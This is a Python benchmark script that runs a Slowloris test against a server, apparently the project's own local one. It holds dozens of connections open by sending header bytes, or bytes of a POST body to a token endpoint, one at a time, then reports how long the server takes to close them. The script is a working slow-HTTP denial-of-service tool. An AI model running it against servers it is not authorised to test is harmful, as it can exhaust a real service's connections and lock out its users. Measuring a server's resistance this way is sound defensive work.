"""Slowloris from outside: how long a server lets dripping HTTP clients hold connections.

    python bench/slowloris.py http://127.0.0.1:8000 [--connections 50] [--every 0.5]
        [--seconds 30] [--body]

Opens the connections, sends a request line and a first header, then one more header byte
(or, with `--body`, one byte of a 1000-byte POST body) every `--every` seconds on each, and
prints once a second how many the server still keeps open, until `--seconds` have passed.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import sys
import time
from urllib.parse import urlsplit

HEADERS = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
BODY = (
    b"POST /api/auth/token HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n"
)


def say(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


async def hold(host: str, port: int, head: bytes, every: float, closed: list[float]) -> None:
    """One dripping client; appends the second the server closed it to `closed`."""
    started = time.monotonic()
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(head)

    async def dripping() -> None:
        with contextlib.suppress(ConnectionError):
            while True:
                await asyncio.sleep(every)
                writer.write(b"a")

    drip = asyncio.create_task(dripping())
    try:
        with contextlib.suppress(ConnectionError):
            while await reader.read(4096):
                pass
        closed.append(time.monotonic() - started)
    finally:
        drip.cancel()
        writer.close()


async def attack(url: str, connections: int, every: float, seconds: float, body: bool) -> None:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    closed: list[float] = []
    head = BODY if body else HEADERS
    tasks = [asyncio.create_task(hold(host, port, head, every, closed)) for _ in range(connections)]
    started = time.monotonic()
    while (elapsed := time.monotonic() - started) < seconds and len(closed) < connections:
        await asyncio.sleep(1)
        say(f"{elapsed + 1:5.0f} s: {connections - len(closed)} of {connections} still open")
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    say(
        f"{len(closed)} of {connections} closed by the server"
        + (f", after {min(closed):.1f}-{max(closed):.1f} s" if closed else "")
        + f"; {connections - len(closed)} still open after {seconds:.0f} s"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url")
    parser.add_argument("--connections", type=int, default=50)
    parser.add_argument("--every", type=float, default=0.5)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--body", action="store_true", help="drip a POST body, not headers")
    args = parser.parse_args()
    asyncio.run(attack(args.url, args.connections, args.every, args.seconds, args.body))


if __name__ == "__main__":
    main()
